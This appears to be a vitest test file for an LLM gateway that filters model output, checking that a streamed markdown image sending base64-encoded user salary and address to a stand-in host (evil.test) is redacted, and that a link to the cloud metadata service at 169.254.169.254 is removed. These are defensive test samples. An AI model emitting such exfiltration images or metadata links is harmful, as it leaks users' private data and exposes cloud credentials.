import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json, openAiTextChunks, type ScriptedUpstream, sse, startScriptedUpstream } from '../helpers/scripted-upstream.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';

let upstream: ScriptedUpstream;
let gw: TestGateway;
const leak = 'https://evil.test/pixel.png?d=' + Buffer.from('user said: my salary is 123456 and my address is 1 Main St').toString('base64url');

beforeAll(async () => {
  upstream = await startScriptedUpstream((_req, res) => json(res, 500, {}));
  gw = await startTestGateway({ upstreams: [{ name: 'u', provider: 'openai', url: `${upstream.url}/v1` }], routes: [{ model: '*', upstream: 'u' }] });
});
afterAll(async () => {
  await gw.close();
  await upstream.close();
});

describe('links and images in model output', () => {
  it('removes a markdown image that smuggles data to an unknown domain, split across stream deltas, and keeps ordinary links', async () => {
    const text = `Here is the chart ![chart](${leak}) and the docs at https://docs.python.org/3/library/json.html for more.`;
    const pieces = text.match(/.{1,9}/gs)!;
    upstream.script = (_req, res) => sse(res, openAiTextChunks(pieces));
    const stream = await new OpenAI({ baseURL: `${gw.proxyUrl}/v1`, apiKey: gw.clientKey, maxRetries: 0 }).chat.completions.create({ model: 'gpt-test', stream: true, messages: [{ role: 'user', content: 'chart?' }] });
    let out = '';
    for await (const chunk of stream) out += chunk.choices[0]?.delta.content ?? '';
    expect(out).not.toContain('evil.test');
    expect(out).toContain('[REDACTED:link.data_exfiltration]');
    expect(out).toContain('https://docs.python.org/3/library/json.html');
  });

  it('removes a link to the cloud metadata service from a JSON answer', async () => {
    upstream.script = (_req, res) => json(res, 200, { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: 'Open http://169.254.169.254/latest/meta-data/ now.' }, finish_reason: 'stop' }] });
    const res = await new OpenAI({ baseURL: `${gw.proxyUrl}/v1`, apiKey: gw.clientKey, maxRetries: 0 }).chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'x' }] });
    expect(res.choices[0]!.message.content).toBe('Open [REDACTED:link.private_network] now.');
  });
});
